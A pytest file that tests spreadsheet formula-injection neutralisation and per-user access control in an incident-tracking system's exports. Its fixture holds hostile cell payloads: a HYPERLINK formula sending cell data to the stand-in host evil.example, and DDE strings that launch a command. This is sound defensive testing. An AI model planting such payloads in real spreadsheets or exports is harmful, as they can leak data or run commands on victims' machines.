"""Exports: spreadsheet formula injection is neutralised in every tabular format while numbers stay numbers,
and an export (the "leaked export" threat) holds exactly what its user may see.
"""

import csv
import datetime as dt
import io
import json
import uuid

import pytest
from django.core.management import call_command

from peaceops.incidents.inputs import ActorData, IncidentData, SourceData
from peaceops.incidents.services import create_incident
from peaceops.interop.exporters.spreadsheet import neutralise, safe_cell

from .world import SEEN

TABULAR = ("csv", "hxl", "ucdp-ged")
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "location_name": "-2+3",
    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "\t=1+1",
    "external_id": "\r=1+1",
}


def export(username: str, format: str, **filters) -> str:
    out = io.StringIO()
    options = [f"--{k}={v}" for k, v in filters.items()]
    call_command("export_incidents", "--format", format, "--user", username, *options, "--no-progress",
                 stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def formula_incident(security_world, db):
    """An incident whose every text field starts like a formula, at a point with negative coordinates."""
    world = security_world
    data = IncidentData(
        title=FORMULAS["title"], description=FORMULAS["description"], location_name=FORMULAS["location_name"],
        occurred_start=world.when, lon=-12.5, lat=-8.25, category_path="mission/crime",
        external_id=FORMULAS["external_id"], actors=[ActorData(name=FORMULAS["actor"])],
        sources=[SourceData(type="patrol", reference=FORMULAS["source"])],
        casualties=[],
    )
    return create_incident(acting_user=world.users["watch"], mission=world.missions["UNMIK"], data=data)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("format", TABULAR)
def test_no_cell_of_a_tabular_export_starts_a_formula(format, formula_incident):
    text = export("sec-watch", format, q="calc")  # the description matches: only the hostile incident
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) >= 2, text
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
    assert not dangerous, dangerous
    joined = "\n".join(cells)
    for field in ("title",) if format == "ucdp-ged" else ("title", "description"):  # GED has no description
        assert "'" + FORMULAS[field] in joined, f"{format} lost or changed the {field}"


def test_csv_keeps_numbers_and_neutralises_every_text_column(formula_incident):
    row = next(csv.DictReader(io.StringIO(export("sec-watch", "csv", q="calc"), newline="")))
    assert row["lon"] == "-12.5" and row["lat"] == "-8.25"
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["description"] == "'" + FORMULAS["description"]
    assert row["location_name"] == "'" + FORMULAS["location_name"]
    assert row["actors"].startswith("'" + FORMULAS["actor"])
    assert row["id"] == "'" + FORMULAS["external_id"]
    assert FORMULAS["source"] in row["sources"]  # inside the cell, after the source type: not at its start


def test_hxl_and_ged_keep_negative_coordinates_as_numbers(formula_incident):
    hxl = list(csv.DictReader(io.StringIO(export("sec-watch", "hxl", q="calc"), newline="")))
    assert hxl[1]["lon"] == "-12.5" and hxl[1]["lat"] == "-8.25"  # row 0 holds the hashtags
    ged = next(csv.DictReader(io.StringIO(export("sec-watch", "ucdp-ged", q="calc"), newline="")))
    assert ged["longitude"] == "-12.5" and ged["latitude"] == "-8.25"


def test_the_shared_neutraliser():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1") == "'" + start + "1"
    assert neutralise("Mitrovica") == "Mitrovica"
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3 and safe_cell(None) == ""


def _exported_ids(format: str, text: str) -> set[str]:
    if format == "geojson":
        return {f["id"] for f in json.loads(text)["features"]}
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    if format == "hxl":
        rows = rows[1:]
    if format == "ucdp-ged":
        return {str(uuid.UUID(r["id"])) for r in rows}
    return {r["uuid"] for r in rows}


USERNAMES = {"viewer": "sec-viewer", "reporter": "sec-reporter", "analyst": "sec-analyst", "watch": "sec-watch",
             "admin": "sec-admin", "sc": "sec-sc", "partner": "sec-kfor", "outsider": "sec-minusca",
             "token": "sec-machine"}


@pytest.mark.parametrize("format", ["csv", "geojson", "hxl", "ucdp-ged"])
@pytest.mark.parametrize("actor", sorted(USERNAMES))
def test_an_export_holds_exactly_what_its_user_may_see(actor, format, security_world, db):
    assert SEEN[actor]  # every actor has a declared view
    text = export(USERNAMES[actor], format)
    assert _exported_ids(format, text) == security_world.visible_ids(actor)


def test_a_filtered_export_never_widens(security_world, db):
    """The same export narrowed by time still holds only visible records (filters never widen)."""
    day = security_world.when.date()
    text = export("sec-kfor", "csv", since=day.isoformat(), until=(day + dt.timedelta(days=1)).isoformat())
    assert _exported_ids("csv", text) == security_world.visible_ids("partner")
